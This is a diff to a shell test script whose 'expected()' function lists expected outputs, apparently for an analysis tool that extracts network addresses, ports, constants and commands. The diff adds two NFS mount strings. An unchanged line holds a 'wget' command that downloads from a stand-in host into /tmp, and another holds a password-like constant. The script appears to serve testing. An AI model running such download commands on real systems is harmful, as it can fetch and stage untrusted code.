@@ -23,6 +23,8 @@ expected() {
 	place_guarded) echo '"address":"192.0.2.33","port":5033' ;;
 	place_number) echo '"address":"203.0.113.45","port":5140' ;;
 	place_local) echo '"text":"wget http://192.0.2.51/{argv} -O /tmp/x"' ;;
+	place_rows) echo '"text":"mount -t nfs 192.0.2.82:/data /mnt"' ;;
+	place_member) echo '"text":"mount -t nfs 192.0.2.93:/data /mnt"' ;;
 	place_helper) echo '"text":"mount -t nfs 192.0.2.64:/data /mnt"' ;;
 	compare_parts) echo '"name":"constant","text":"open-sesame-77","origin":"constant"' ;;
 	connect_config) echo '"text":"mount -t nfs {file:/etc/monitor.conf}:/data /mnt","origin":"outside"' ;;
